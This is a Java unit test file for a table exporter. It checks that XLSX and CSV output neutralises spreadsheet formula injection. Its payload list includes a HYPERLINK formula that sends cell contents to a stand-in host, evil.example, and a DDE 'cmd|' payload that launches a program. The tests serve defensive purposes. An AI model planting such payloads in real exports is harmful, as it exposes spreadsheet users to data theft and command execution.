package org.xinqiao.listing;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/// Names that a spreadsheet would calculate, written and read back with other people's programs.
class ListingTableTest {

  private static final String STARTERS = "=+-@\t\r\n\0＝＋－＠";

  private static List<String> payloads() {
    List<String> all = new ArrayList<>();
    for (String start :
        List.of("=", "+", "-", "@", "\t=", "\r=", "\0=", "＝", "＋", "－", "＠", "\n=")) {
      all.add(start + "1+1");
      all.add(start + "HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
      all.add(start + "cmd|'/C calc'!A0");
    }
    all.add(" =1+1");
    all.add("\uFEFF=1+1");
    all.add("\u200B@SUM(A1)");
    all.add("\u00A0+1");
    all.add("\"=1+1");
    all.add("王;=1+1");
    all.add("王,=1+1\n=2+2");
    return all;
  }

  private static ListingTable table(List<String> names) {
    return new ListingTable(
        List.of("姓名", "病历号"),
        names.stream().map(name -> List.of(name, "P1")).toList(),
        List.of("说明", "=1+1"));
  }

  private static boolean safe(String cell) {
    String seen = cell.replaceAll("^[\\s\\p{Cf}\\p{Cc}\\p{Z}]+", "");
    return cell.isEmpty()
        || STARTERS.indexOf(cell.charAt(0)) < 0
            && (seen.isEmpty() || STARTERS.indexOf(seen.charAt(0)) < 0);
  }

  @Test
  void thereAreEnoughOfThem() {
    assertThat(payloads()).hasSizeGreaterThanOrEqualTo(40);
    assertThat(payloads()).filteredOn(name -> !safe(name)).hasSizeGreaterThanOrEqualTo(38);
  }

  @Test
  void everyCellOfAWorkbookIsTextAndNoneIsAFormula() throws IOException {
    int cells = 0;
    try (Workbook workbook =
        new XSSFWorkbook(new ByteArrayInputStream(table(payloads()).write(Format.XLSX)))) {
      for (Sheet sheet : workbook) {
        for (Row row : sheet) {
          for (Cell cell : row) {
            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            assertThat(safe(cell.getStringCellValue())).as(cell.getStringCellValue()).isTrue();
            cells++;
          }
        }
      }
      assertThat(workbook.getSheetAt(0).getRow(1).getCell(0).getStringCellValue())
          .isEqualTo("'=1+1");
    }
    assertThat(cells).isEqualTo(2 + 2 * payloads().size() + 2);
  }

  @ParameterizedTest
  @EnumSource(
      value = Format.class,
      names = {"CSV", "CSV_GB18030"})
  void noCellOfACsvIsAFormulaAndEachStandsWhereItBelongs(Format format) throws IOException {
    byte[] bytes = table(payloads()).write(format);
    Charset charset = format == Format.CSV ? StandardCharsets.UTF_8 : Charset.forName("GB18030");
    String text = new String(bytes, charset);
    if (format == Format.CSV) {
      assertThat(text).startsWith("\uFEFF");
      text = text.substring(1);
    }
    List<CSVRecord> rows = CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
    assertThat(rows).hasSize(1 + payloads().size());
    for (CSVRecord row : rows) {
      assertThat(row.size()).isEqualTo(2);
      row.forEach(cell -> assertThat(safe(cell)).as(cell).isTrue());
    }
    for (int i = 0; i < payloads().size(); i++) {
      assertThat(rows.get(i + 1).get(0).replaceFirst("^'", ""))
          .isEqualTo(payloads().get(i).replace("\0", ""));
    }
  }

  @Test
  void rareCharactersSurviveAndWhatXmlCannotHoldIsLeftOut() throws IOException {
    String rare = "𠮷野·䶮\u0001\uD800";
    byte[] bytes = table(List.of(rare)).write(Format.XLSX);
    try (Workbook workbook = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
      assertThat(workbook.getSheetAt(0).getRow(1).getCell(0).getStringCellValue())
          .isEqualTo("𠮷野·䶮");
    }
    assertThat(
            new String(
                table(List.of("𠮷野·䶮")).write(Format.CSV_GB18030), Charset.forName("GB18030")))
        .contains("𠮷野·䶮");
  }
}
